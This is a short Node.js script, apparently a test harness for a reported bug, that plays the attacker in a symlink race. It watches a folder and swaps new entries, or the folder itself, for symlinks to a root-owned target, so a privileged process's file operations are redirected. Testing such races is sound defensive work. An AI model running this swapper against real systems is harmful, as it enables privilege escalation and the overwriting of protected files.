#!/usr/bin/env node
// The attacker of issue 23 item 1: runs as the user who owns a folder, and swaps every new entry in
// it (argv[2]) for a symlink to a root-owned target (argv[3]); with argv[4] = "folder" it swaps the
// folder itself instead (renames it away, puts a symlink to argv[3] in its place, and back).
// One line per swap on stdout ("SWAP <name>"); it stops on SIGTERM or after argv[5] swaps.
import { lstatSync, readdirSync, renameSync, rmSync, symlinkSync } from 'node:fs'
import { basename, dirname, join } from 'node:path'

const [dir, target, mode = 'entries', maxArg = '10000'] = process.argv.slice(2)
const max = Number(maxArg)
let swaps = 0
let stop = false
process.on('SIGTERM', () => (stop = true))
const log = (what) => process.stdout.write(`SWAP ${what}\n`)
const known = new Set(readdirSync(dir))
process.stdout.write('READY\n')

function swapEntries() {
  for (const name of readdirSync(dir)) {
    if (known.has(name)) continue
    known.add(name)
    const path = join(dir, name)
    try {
      if (lstatSync(path).isSymbolicLink()) continue
      renameSync(path, join(dirname(dir), `.moved-${swaps}-${name}`))
      symlinkSync(target, path)
      swaps++
      log(name)
    } catch {
      // The entry went before we got it: the next one.
    }
  }
}

function swapFolder() {
  const aside = join(dirname(dir), `.${basename(dir)}-aside`)
  try {
    renameSync(dir, aside)
    symlinkSync(target, dir)
    swaps++
    log(basename(dir))
    rmSync(dir)
    renameSync(aside, dir)
  } catch {
    // Mid-swap by a step of root's: tried again at once.
  }
}

function loop() {
  const until = Date.now() + 5
  while (!stop && swaps < max && Date.now() < until) (mode === 'folder' ? swapFolder : swapEntries)()
  if (stop || swaps >= max) process.exit(0)
  setImmediate(loop)
}
loop()
